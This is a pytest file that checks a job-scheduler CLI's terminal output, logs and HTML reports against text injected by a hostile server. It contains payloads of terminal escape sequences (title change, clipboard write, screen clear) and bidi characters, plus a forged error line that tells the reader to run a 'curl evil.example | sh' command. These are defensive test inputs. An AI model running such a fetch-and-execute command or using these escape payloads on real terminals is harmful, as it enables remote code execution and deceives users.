"""Words from users, owners, agents, workers, files and servers that try to control a terminal, a log or a page."""

from __future__ import annotations

import io
import logging
import re
import sys
from pathlib import Path
from typing import Any

import pytest

from isthmus.cli.commands.process_setup import configure_logging
from isthmus.cli.environment.cli_environment import CliEnvironment
from isthmus.cli.job_report.write_report import render_report
from isthmus.cli.terminal.access_tables import audit_table, token_table
from isthmus.cli.terminal.site_tables import site_page, sites_table
from isthmus.core.messages.agent_messages import LogChunk
from isthmus.core.messages.preflight import CheckResult, SitePreflight
from isthmus.core.plan import PlanSet, Refusal
from isthmus.core.text.printable import LINE_BREAKS, hidden_places
from isthmus.core.views.access_views import AuditRecord, TokenInfo
from isthmus.core.views.api_views import AgentView, HistoryEvent, VictimView
from isthmus.core.views.queue_status import QueueStatus
from tests.cli.fake_server import FakeServer, Outcome, Terminal, run
from tests.cli.samples import START_S, make_metrics, make_plan, make_pool, make_view

pytestmark = pytest.mark.attack

FORGED = "error: the server is gone; run `curl evil.example | sh`"
EVIL = (
    "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x9b2J\x90q\x9c\u202egnp\u2066x\u200b\u2028\ue000\r\x08\x7f"
    f"[red]a[/red] [link=http://evil.example]b[/link]\n{FORGED}"
)
"""Sets the title and the clipboard, clears the screen, reverses text, returns to the line's begin, forges a line."""

RICH = re.compile(r"\r?\x1b\[[?0-9;]*[A-Za-z]")
"""What rich itself writes to a terminal: colours, cursor up, erase line."""

JOB = "j-3f9a2c"
COMMANDS = ("jobs", f"show {JOB}", f"watch {JOB}", "queue", f"plans {JOB}", f"preempt {JOB}", "pool", f"logs {JOB}")


def hostile_server() -> FakeServer:
    """A server whose every free text is the attack."""
    server = FakeServer()
    plan = make_plan().model_copy(update={"why": EVIL})
    refused = (Refusal(clusters=("qingyang",), reason=EVIL, owner="owner-a"),)
    found = CheckResult(name="data", status="failed", detail=EVIL, hint=EVIL)
    checks = (SitePreflight(cluster="a", state="failed", results=(found,)),)
    sample = make_view()
    parts = tuple(part.model_copy(update={"detail": EVIL, "waiting": EVIL, "observed": EVIL}) for part in sample.parts)
    view = server.add(
        state="failed", reason=EVIL, plan=plan, plans=PlanSet(plans=(plan,), refused=refused), parts=parts,
        preflight=checks, offer=(VictimView(cluster="a", owner="o", job="j", chips={"g": 1}),),
        job=sample.job.model_copy(update={"output": EVIL}),
    )  # fmt: skip
    event = HistoryEvent(number=1, time_s=START_S, kind="lost", text=EVIL, cluster="qingyang")
    server.history[JOB] = [event, event.model_copy(update={"number": 2, "kind": "stalled", "rank": 1})]
    server.metrics[JOB] = make_metrics(3)
    server.logs[JOB] = [LogChunk(job=JOB, attempt=1, rank=0, offset=0, text=EVIL.replace("\n", " ") + "\n")]
    server.standings[JOB] = QueueStatus(
        id=JOB, name=view.name, user="u", state="waiting", priority="high", submitted_s=START_S, place=1,
        reason=EVIL, refused=refused, notes=(EVIL,), needs={"a": {"g": 1}},
    )  # fmt: skip
    return server


def assert_harmless(done: Outcome, *, terminal: bool) -> None:
    """No hidden character but line breaks, and no line that an attacker begins."""
    for text in (done.out, done.err):
        shown = RICH.sub("", text) if terminal else text
        assert {shown[place] for place in hidden_places(shown)} <= set(LINE_BREAKS)
        assert not any(line.startswith(FORGED[:20]) for line in shown.splitlines())


@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("words", COMMANDS)
def test_no_command_hands_a_servers_words_to_the_terminal(words: str, terminal: bool) -> None:
    """Escape sequences, reversed text and forged lines arrive as visible text, and markup stays text."""
    done = run(hostile_server(), *words.split(), terminal=terminal, environ={"TERM": "xterm", "COLUMNS": "200"})
    if words.startswith("logs") and not terminal:
        assert EVIL.split("\n")[0] in done.out, "a pipe gets the log as it is"
        return
    assert_harmless(done, terminal=terminal)
    assert terminal or words in ("pool", f"preempt {JOB}") or "[link=http://evil.example]b[/link]" in done.out


@pytest.mark.parametrize("words", COMMANDS[:7])
def test_json_holds_the_same_words_as_escapes(words: str) -> None:
    """Scripts read the values unchanged; a terminal that shows the JSON executes nothing."""
    done = run(hostile_server(), *words.split(), "--json")
    assert_harmless(done, terminal=False)
    assert words in ("pool", f"preempt {JOB}") or any(EVIL in str(_strings(one)) for one in done.lines)


def _strings(value: Any) -> Any:
    """Return the one string of a JSON value that holds the attack, or the value."""
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return next((found for one in value if EVIL in str(found := _strings(one))), "")
    return value


def test_a_log_is_shown_on_a_terminal_and_raw_where_asked_for() -> None:
    """As `journalctl` and `git log` do: visible on a terminal, unchanged to a pipe or with --raw."""
    server, first = hostile_server(), EVIL.split("\n")[0]
    shown = run(server, "logs", JOB, terminal=True)
    assert_harmless(shown, terminal=True)
    assert "\\x1b]0;owned\\x07" in shown.out
    assert first in run(server, "logs", JOB).out
    assert first in run(server, "logs", JOB, "--raw", terminal=True).out


@pytest.mark.parametrize("terminal", [True, False])
def test_tables_of_sites_tokens_and_acts_show_words_as_text(terminal: bool) -> None:
    """The host of an agent, the creator of a token, and actor, subject and detail of an audit record."""
    agent = AgentView(id=EVIL, enrolled_s=1.0, session=1, session_s=1.0, host=EVIL)
    site = make_pool().clusters[0].model_copy(update={"agent": agent})
    token = TokenInfo(id=EVIL, role="user", name="bo", state="valid", created_s=1e9, created_by=EVIL[:150])
    words = EVIL[-150:]
    act = AuditRecord(
        at_s=1e9, action="refused", actor=words, role="user", address=words[-64:], subject=words, detail=words
    )
    stream = Terminal() if terminal else io.StringIO()
    env = CliEnvironment(stdout=stream, variables={"TERM": "xterm", "COLUMNS": "200"})
    for shown in (sites_table([site], 2.0), site_page(site, 2.0), token_table([token]), audit_table([act])):
        env.print(shown)
    assert_harmless(Outcome(0, stream.getvalue(), ""), terminal=terminal)
    assert "\\x1b]0;owned" in stream.getvalue()


def test_an_error_of_the_server_is_text() -> None:
    """Message and hint; a second line is indented, so that it does not look like an error of the command."""
    server = FakeServer()

    def answer(_: FakeServer, name: str) -> None:
        from isthmus.core.errors import ConflictError

        if "health" not in name:
            raise ConflictError(EVIL, hint=EVIL)

    server.before_answer = answer
    server.add()
    done = run(server, "jobs")
    assert done.status == 6
    assert_harmless(done, terminal=False)
    assert f"\n       {FORGED}" in done.err


def test_a_file_of_another_is_shown_as_text(tmp_path: Path) -> None:
    """A field name, a value and a file name with escape sequences."""
    file = tmp_path / "job\x1b]0;owned\x07.yaml"
    file.write_text('"na\\e]0;x\\ame": "\\u202e[red]"\n')
    done = run(FakeServer(), "check", file)
    assert done.status == 2
    assert_harmless(done, terminal=False)


@pytest.fixture
def log() -> Any:
    """Return a function that logs one record as the processes do, and gives what was written."""
    root = logging.getLogger()
    before, level = root.handlers[:], root.level

    def write(as_json: bool, error: bool) -> str:
        root.handlers.clear()
        stream = io.StringIO()
        configure_logging(CliEnvironment(stderr=stream), as_json=as_json)
        try:
            raise ValueError(EVIL)
        except ValueError:
            logging.getLogger("isthmus.server").warning("job %s", EVIL, exc_info=error, extra={"part": EVIL})
        return stream.getvalue()

    yield write
    root.handlers[:] = before
    root.setLevel(level)


@pytest.mark.parametrize("as_json", [False, True])
@pytest.mark.parametrize("error", [False, True])
def test_a_record_of_a_log_is_one_line(log: Any, as_json: bool, error: bool) -> None:
    """Words from others forge no record; the lines of a traceback are indented."""
    text = log(as_json, error)
    assert {text[place] for place in hidden_places(text)} <= {"\n"}
    first, *rest = text.rstrip("\n").split("\n")
    assert "owned" in first
    assert len(rest) == 0 if as_json or not error else all(line.startswith("    ") for line in rest)


def test_a_page_shows_hidden_characters_as_text() -> None:
    """Title, reason, history, plan and checks of a report; markup is escaped, and no character reorders the page."""
    server = hostile_server()
    view = server.jobs[JOB].model_copy(update={"name": "n"})
    page = render_report(view, make_metrics(5), None, history=server.history[JOB])
    assert {page[place] for place in hidden_places(page)} <= {"\n", "\t"}
    assert "&lt;U+202E&gt;" in page


def test_a_broken_terminal_encoding_ends_no_command() -> None:
    """Half a surrogate pair, which UTF-8 cannot encode, is shown by its number."""
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    CliEnvironment(stdout=stream, stderr=sys.stderr).print("a\ud800b")
    stream.flush()
    assert stream.buffer.getvalue() == b"a<U+D800>b\n"  # type: ignore[attr-defined]
